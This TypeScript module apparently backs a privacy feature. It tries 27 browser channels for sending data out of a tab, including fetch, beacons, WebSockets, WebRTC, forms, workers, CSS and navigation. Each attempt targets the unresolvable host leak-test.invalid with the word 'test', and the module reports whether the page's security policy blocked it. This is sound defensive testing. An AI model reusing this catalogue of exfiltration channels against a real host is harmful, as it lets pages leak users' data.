import { navigation } from './close-doors';

/**
 * Tries every way out of the tab that a page has, to a name that can never exist (RFC 2606), so that a visitor can watch
 * each being refused. Carries nothing but the word "test".
 */

export type LeakWay =
  | 'fetch'
  | 'xhr'
  | 'beacon'
  | 'websocket'
  | 'eventsource'
  | 'webtransport'
  | 'webrtc'
  | 'image'
  | 'media'
  | 'font'
  | 'stylesheet'
  | 'script'
  | 'eval'
  | 'form'
  | 'frame'
  | 'object'
  | 'prefetch'
  | 'worker'
  | 'nested-worker'
  | 'service-worker'
  | 'css'
  | 'prerender'
  | 'new-window'
  | 'navigation'
  | 'cookie'
  | 'session-storage'
  | 'file-system';

export interface LeakAttempt {
  readonly way: LeakWay;
  readonly blocked: boolean;
  /** The policy's directive, or what else refused it. */
  readonly by: string;
}

const host = 'leak-test.invalid';
const target = `https://${host}/test`;
const patienceMs = 1500;
const closed = 'taken away when the page opened';

/** One attempt: starts it, and says if it already knows that it failed. What it throws counts as refused. */
type Attempt = () => void | string | Promise<void | string>;

const attempts: Readonly<Record<LeakWay, Attempt>> = {
  fetch: async () => void (await fetch(target, { method: 'POST', body: 'test', mode: 'no-cors' })),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open('POST', target);
    request.send('test');
  },
  beacon: () => void navigator.sendBeacon(target, 'test'),
  websocket: () => void new WebSocket(`wss://${host}/test`),
  eventsource: () => {
    const source = new EventSource(target);
    setTimeout(() => source.close(), patienceMs); // closed at once, it would not even be tried
  },
  webtransport: async () => {
    const { WebTransport } = globalThis as { WebTransport?: new (url: string) => { ready: Promise<void> } };
    if (!WebTransport) return 'not in this browser';
    await new WebTransport(target).ready;
  },
  webrtc: () => {
    if (typeof RTCPeerConnection !== 'function') return closed;
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    connection.createDataChannel('test');
    connection.close();
  },
  image: () => void (new Image().src = target),
  media: () => {
    const audio = new Audio();
    audio.src = target;
    audio.load();
  },
  font: async () => void (await new FontFace('leak-test', `url(${target})`).load()),
  stylesheet: () => withElement('link', (link) => Object.assign(link, { rel: 'stylesheet', href: target })),
  script: () => withElement('script', (script) => script.setAttribute('src', target)),
  eval: () => void Function('return 1')(),
  form: () =>
    withElement('form', (form) => {
      Object.assign(form, { action: target, method: 'post', target: 'leak-test-nowhere' });
      form.requestSubmit();
    }),
  frame: () => withElement('iframe', (frame) => void (frame.src = target)),
  object: () => withElement('object', (object) => void (object.data = target)),
  prefetch: () => withElement('link', (link) => Object.assign(link, { rel: 'prefetch', href: target })),
  worker: () => new Worker(target).terminate(),
  'nested-worker': () => {
    const url = new URL('data:text/javascript,fetch("https://leak-test.invalid/test")').href;
    new Worker(url).terminate();
  },
  'service-worker': async () => void (await navigator.serviceWorker.register(target)),
  css: () =>
    withElement('i', (element) => {
      element.hidden = false; // what is not shown loads no picture
      Object.assign(element.style, { position: 'fixed', width: '1px', height: '1px' });
      element.style.backgroundImage = `url(${target})`;
    }),
  prerender: () =>
    withElement('script', (script) => {
      script.type = 'speculationrules';
      script.textContent = JSON.stringify({ prerender: [{ urls: [target] }] });
    }),
  'new-window': () => (typeof window.open === 'function' ? void window.open(target) : closed),
  navigation: () => {
    let by: string | undefined;
    const look = (event: Event) => {
      if (event.defaultPrevented) by = closed;
      event.preventDefault(); // whatever happens: the visitor's pictures are in this tab
    };
    navigation()?.addEventListener('navigate', look, { once: true });
    location.assign(target);
    return by;
  },
  cookie: () => {
    document.cookie = 'leak-test=test; Max-Age=1';
    return document.cookie ? undefined : closed;
  },
  'session-storage': () => (typeof sessionStorage === 'undefined' ? closed : undefined),
  'file-system': () => (typeof navigator.storage.getDirectory === 'function' ? undefined : closed),
};

/** A browser that cannot hold a tab back is not asked to: it would lead away. */
const leakWays = (Object.keys(attempts) as LeakWay[]) // the record above names every way
  .filter((way) => way !== 'navigation' || navigation());

/** Runs all attempts, one after another, and reports each as it ends. */
export async function tryToLeak(onAttempt: (attempt: LeakAttempt) => void): Promise<void> {
  for (const way of leakWays) onAttempt(await attempt(way));
}

async function attempt(way: LeakWay): Promise<LeakAttempt> {
  let onViolation = (event: SecurityPolicyViolationEvent): void => void event;
  const violation = new Promise<string>((resolve) => {
    onViolation = ({ effectiveDirective }) => resolve(effectiveDirective);
  });
  document.addEventListener('securitypolicyviolation', onViolation);
  try {
    const known = await Promise.race([Promise.resolve(attempts[way]()), after(patienceMs, undefined)]);
    if (known !== undefined) return { way, blocked: true, by: known };
    const directive = await Promise.race([violation, after(patienceMs, undefined)]);
    return directive === undefined ? { way, blocked: false, by: '' } : { way, blocked: true, by: directive };
  } catch (error) {
    const directive = await Promise.race([violation, after(patienceMs, (error as Error).name)]);
    return { way, blocked: true, by: directive };
  } finally {
    document.removeEventListener('securitypolicyviolation', onViolation);
  }
}

function withElement<K extends keyof HTMLElementTagNameMap>(
  tag: K,
  act: (element: HTMLElementTagNameMap[K]) => unknown,
): void {
  const element = document.createElement(tag);
  element.hidden = true;
  try {
    document.body.append(element);
    act(element);
  } finally {
    setTimeout(() => element.remove(), patienceMs);
  }
}

function after<T>(ms: number, value: T): Promise<T> {
  return new Promise((resolve) => setTimeout(() => resolve(value), ms));
}
